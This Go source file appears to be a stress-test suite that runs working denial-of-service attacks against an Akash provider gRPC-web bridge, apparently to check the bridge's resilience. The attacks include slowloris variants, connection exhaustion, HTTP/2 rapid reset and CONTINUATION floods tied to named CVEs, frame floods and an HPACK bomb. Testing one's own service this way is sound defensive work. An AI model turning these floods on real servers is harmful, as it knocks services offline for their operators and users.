package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"

	providerv1 "akash-provider-web/proto/akash/provider/v1"
)

// listenerAttacks are a caller's attacks on the bridge's listener.
var listenerAttacks = []attack{
	{name: "slow headers", run: slowly("POST / HTTP/1.1\r\nHost: bridge\r\nX: ", 200)},
	{name: "slow TLS handshakes", tls: true, run: slowHandshakes},
	{name: "slow bodies", run: slowly("POST "+providerv1.ProviderRPC_GetStatus_FullMethodName+" HTTP/1.1\r\nHost: bridge\r\nContent-Type: application/grpc-web+proto\r\nContent-Length: 1000000\r\nAkash-Provider: "+stranger+"\r\n\r\n", 200)},
	// A request may have 4 MiB, which are held until it is complete.
	{name: "endless bodies", grows: 160 << 20, run: endlessBodies},
	{name: "endless headers", run: endlessHeaders},
	// A goroutine and buffers of net/http take 10 KB for each.
	{name: "10,000 idle connections", grows: 200 << 20, run: idleConnections},
	// Handlers of streams that were reset take a while to end.
	{name: "rapid reset, h2c", short: true, grows: 256 << 20, run: rapidReset},
	{name: "rapid reset, TLS", tls: true, grows: 256 << 20, run: rapidReset},
	{name: "CONTINUATION flood, h2c", short: true, run: continuationFlood},
	{name: "CONTINUATION flood, TLS", tls: true, run: continuationFlood},
	{name: "empty CONTINUATION flood", run: emptyContinuations},
	{name: "SETTINGS flood, h2c", run: flood(func(c *h2) error { return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}) })},
	{name: "SETTINGS flood, TLS, deaf", tls: true, short: true, run: deafFlood(func(c *h2) error { return c.WriteSettings() })},
	{name: "PING flood, h2c", run: flood(func(c *h2) error { return c.WritePing(false, [8]byte{}) })},
	{name: "PING flood, TLS, deaf", tls: true, run: deafFlood(func(c *h2) error { return c.WritePing(false, [8]byte{}) })},
	{name: "WINDOW_UPDATE flood", tls: true, run: flood(func(c *h2) error { return c.WriteWindowUpdate(0, 1) })},
	{name: "PRIORITY flood", tls: true, run: flood(func(c *h2) error { return c.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })},
	{name: "empty DATA flood", run: emptyData},
	{name: "HPACK bomb", short: true, run: headerBomb},
	{name: "answers never read", grows: 256 << 20, run: neverRead},
}

// slowly sends head on n connections, and then a byte every 100 ms, whose end nobody sees.
func slowly(head string, n int) func(context.Context, *target) error {
	return func(ctx context.Context, t *target) error {
		var closed counter
		during(ctx, n, func() error {
			conn, err := t.dial(ctx, "http/1.1")
			if err != nil {
				return err
			}
			defer conn.Close()
			_, err = io.WriteString(conn, head)
			for err == nil && ctx.Err() == nil {
				pause(ctx, 100*time.Millisecond)
				_, err = conn.Write([]byte("x"))
			}
			closed.add(1)
			return err
		})
		t.say("%d connections", n)
		return nil
	}
}

// slowHandshakes opens connections and never begins a handshake.
func slowHandshakes(ctx context.Context, t *target) error {
	plain := &target{role: t.role}
	plain.Bridge = strings.Replace(t.Bridge, "https:", "http:", 1)
	var all []net.Conn
	for len(all) < 500 && ctx.Err() == nil {
		conn, err := plain.dial(ctx, "")
		if err != nil {
			pause(ctx, 10*time.Millisecond) // too many wait already
			continue
		}
		all = append(all, conn)
	}
	<-ctx.Done()
	t.say("%d connections", len(all))
	return nil
}

// endlessBodies sends bodies without an end as fast as the bridge takes them.
func endlessBodies(ctx context.Context, t *target) error {
	chunk := append([]byte("10000\r\n"), make([]byte, 1<<16)...)
	chunk = append(chunk, "\r\n"...)
	var sent counter
	during(ctx, 8, func() error {
		conn, err := t.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		go io.Copy(io.Discard, conn)
		_, err = io.WriteString(conn, "POST "+providerv1.ProviderRPC_GetStatus_FullMethodName+" HTTP/1.1\r\nHost: bridge\r\nContent-Type: application/grpc-web+proto\r\nTransfer-Encoding: chunked\r\nAkash-Provider: "+stranger+"\r\n\r\n")
		for err == nil && ctx.Err() == nil {
			_, err = conn.Write(chunk)
			sent.add(len(chunk))
		}
		return err
	})
	t.say("%d MB sent", sent.value()>>20)
	return nil
}

// endlessHeaders sends header lines without an end.
func endlessHeaders(ctx context.Context, t *target) error {
	line := []byte(strings.Repeat("X-A: "+strings.Repeat("a", 1000)+"\r\n", 16))
	var sent counter
	during(ctx, 8, func() error {
		conn, err := t.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: bridge\r\n")
		for err == nil && ctx.Err() == nil {
			_, err = conn.Write(line)
			sent.add(len(line))
		}
		return err
	})
	t.say("%d MB sent", sent.value()>>20)
	return nil
}

// idleConnections opens as many connections as this process may, up to 10,000.
func idleConnections(ctx context.Context, t *target) error {
	var mu sync.Mutex
	open := 0
	var last error
	var all sync.WaitGroup
	for range 4 {
		all.Go(func() {
			for ctx.Err() == nil {
				mu.Lock()
				enough := open >= 10_000
				mu.Unlock()
				if enough {
					return
				}
				conn, err := t.dial(ctx, "http/1.1")
				mu.Lock()
				if err != nil {
					last = err
					mu.Unlock()
					return
				}
				open++
				mu.Unlock()
				// Half of them have sent a request before, so the server waits for another.
				if open%2 == 0 {
					fmt.Fprintf(conn, "GET /healthz HTTP/1.1\r\nHost: bridge\r\n\r\n")
				}
			}
		})
	}
	all.Wait()
	<-ctx.Done()
	if open < 10_000 && last != nil && ctx.Err() == nil {
		t.say("%d connections: %v", open, last)
	} else {
		t.say("%d connections", open)
	}
	return nil
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t *target) error {
	var sent, conns counter
	during(ctx, 4, func() error {
		c, err := t.dialH2(ctx, false)
		if err != nil {
			return err
		}
		defer c.Close()
		conns.add(1)
		for id := uint32(1); ctx.Err() == nil && err == nil; id += 2 {
			err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, BlockFragment: c.headers(requestFields(t.Provider, t.HostURI, providerv1.ProviderRPC_GetStatus_FullMethodName)...)})
			if err == nil {
				err = c.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			sent.add(1)
		}
		return err
	})
	t.say("%d streams on %d connections", sent.value(), conns.value())
	return nil
}

// continuationFlood sends a header block without an end (CVE-2023-45288).
func continuationFlood(ctx context.Context, t *target) error {
	fields := strings.Repeat("\x00\x01a\x7f\x00"+strings.Repeat("a", 127), 100) // literals that enter no table
	return flooded(ctx, t, func(c *h2) error {
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(":method", "GET")}); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := c.WriteContinuation(1, false, []byte(fields)); err != nil {
				return err
			}
		}
		return nil
	})
}

// emptyContinuations sends CONTINUATION frames with nothing in them.
func emptyContinuations(ctx context.Context, t *target) error {
	return flooded(ctx, t, func(c *h2) error {
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(":method", "GET")}); err != nil {
			return err
		}
		return repeat(ctx, c, func(c *h2) error { return c.WriteContinuation(1, false, nil) })
	})
}

// flooded opens connections, runs send on each, and counts them.
func flooded(ctx context.Context, t *target, send func(*h2) error) error {
	var conns counter
	during(ctx, 4, func() error {
		c, err := t.dialH2(ctx, false)
		if err != nil {
			return err
		}
		defer c.Close()
		conns.add(1)
		return send(c)
	})
	t.say("%d connections", conns.value())
	return nil
}

// flood sends a frame as often as the bridge takes it.
func flood(frame func(*h2) error) func(context.Context, *target) error {
	return func(ctx context.Context, t *target) error {
		return flooded(ctx, t, func(c *h2) error { return repeat(ctx, c, frame) })
	}
}

// deafFlood is flood by a peer that reads nothing, so that answers pile up.
func deafFlood(frame func(*h2) error) func(context.Context, *target) error {
	return func(ctx context.Context, t *target) error {
		during(ctx, 4, func() error {
			c, err := t.dialH2(ctx, true)
			if err != nil {
				return err
			}
			defer c.Close()
			return repeat(ctx, c, frame)
		})
		return nil
	}
}

// repeat writes many copies of a frame at once, until ctx ends or the peer closes.
func repeat(ctx context.Context, c *h2, frame func(*h2) error) error {
	var many strings.Builder
	once := newH2(c.Conn)
	once.Framer = http2.NewFramer(&many, nil)
	once.AllowIllegalWrites = true
	for many.Len() < 16<<10 {
		if err := frame(once); err != nil {
			return err
		}
	}
	for ctx.Err() == nil {
		if _, err := io.WriteString(c.Conn, many.String()); err != nil {
			return err
		}
	}
	return nil
}

// emptyData sends DATA frames without data on an open stream.
func emptyData(ctx context.Context, t *target) error {
	return flooded(ctx, t, func(c *h2) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: c.headers(requestFields(t.Provider, t.HostURI, providerv1.ProviderRPC_GetStatus_FullMethodName)...)})
		if err != nil {
			return err
		}
		return repeat(ctx, c, func(c *h2) error { return c.WriteData(1, false, nil) })
	})
}

// headerBomb refers to a large field in the table, again and again.
func headerBomb(ctx context.Context, t *target) error {
	return flooded(ctx, t, func(c *h2) error {
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			block := c.headers(append(requestFields(t.Provider, t.HostURI, "/bomb"), "x-bomb", strings.Repeat("a", 3900))...)
			block = append(block, strings.Repeat("\xbe", 16_000)...) // the newest entry of the table
			for first, rest := true, block; len(rest) > 0; first = false {
				n := min(len(rest), 16<<10)
				var err error
				if first {
					err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: rest[:n], EndHeaders: n == len(rest), EndStream: true})
				} else {
					err = c.WriteContinuation(id, n == len(rest), rest[:n])
				}
				if err != nil {
					return err
				}
				rest = rest[n:]
			}
		}
		return nil
	})
}

// neverRead opens streams with answers that it has no window for.
func neverRead(ctx context.Context, t *target) error {
	var streams counter
	during(ctx, 4, func() error {
		c, err := t.dialH2(ctx, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer c.Close()
		for id := uint32(1); id < 200 && ctx.Err() == nil; id += 2 {
			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, BlockFragment: c.headers(requestFields(t.Provider, t.HostURI, providerv1.ProviderRPC_StreamStatus_FullMethodName)...)})
			if err == nil {
				err = c.WriteData(id, true, frame(nil))
			}
			if err != nil {
				return err
			}
			streams.add(1)
		}
		<-ctx.Done()
		return nil
	})
	t.say("%d streams", streams.value())
	return nil
}
